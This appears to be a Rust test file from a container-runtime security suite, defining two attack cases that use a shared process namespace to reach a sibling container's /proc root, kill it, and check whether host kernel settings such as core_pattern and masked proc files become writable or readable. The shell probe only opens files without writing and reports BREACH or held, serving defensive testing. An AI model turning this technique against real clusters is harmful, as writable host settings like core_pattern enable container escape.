//! What is below masks of procfs and sysfs after their mount namespace has ended. Host settings are opened for writing, but not
//! written.

use super::{Attack, POD, Pod, Try, world};

/// The neighbour's procfs is entered while it lives, and read once it has ended.
const LOOK: &str = "
    p=; while [ -z $p ]; do for d in /proc/[0-9]*; do grep -q ^sleep $d/cmdline 2>/dev/null && p=${d#/proc/}; done; done
    cd /proc/$p/root/proc || { echo 'held: its root is closed'; exit; }
    ( : >>sys/kernel/core_pattern ) 2>/dev/null && echo 'BREACH: writable while it lives'
    kill -9 $p; while [ -e /proc/$p/root ]; do sleep 0.1; done; sleep 1
    for setting in sys/kernel/core_pattern sys/vm/overcommit_memory sysrq-trigger; do
        ( : >>$setting ) 2>/dev/null && echo BREACH: $setting can be opened for writing || echo held: $setting
    done
    for masked in interrupts timer_list keys; do
        head -c 1 $masked 2>/dev/null | grep -q . && echo BREACH: $masked is read || echo held: $masked
    done";

const NEIGHBOUR: &str = "{shareProcessNamespace: true, initContainers: [{name: other, restartPolicy: Always,
    image: 'localhost/attack:1', command: [sleep, '7777']}]}";

pub const ATTACKS: &[Attack] = &[
    Attack {
        id: "uncovered-by-an-end",
        class: "masked paths",
        cves: &[],
        how: "with `shareProcessNamespace`, in a `baseline` namespace: enters `/proc/PID/root/proc` of another container, ends that, and opens settings of the host for writing, and masked files",
        held: "all mounts of a container are locked, in a copy that a user namespace owns: what covers does not fall off with the mount namespace",
        attempt: Try::Pod(Pod { namespace: world::BASELINE, spec: NEIGHBOUR, script: LOOK, ..POD }),
    },
    Attack {
        id: "uncovered-by-an-end-somebody",
        class: "masked paths",
        cves: &[],
        how: "the same as uid 1000 in a `restricted` namespace: masked files",
        held: "as above",
        attempt: Try::Pod(Pod {
            namespace: world::RESTRICTED,
            spec: "{shareProcessNamespace: true, securityContext: {runAsUser: 1000}, initContainers: [{name: other, restartPolicy: Always,
                image: 'localhost/attack:1', command: [sleep, '7777'], securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}}]}",
            script: LOOK,
            ..POD
        }),
    },
];
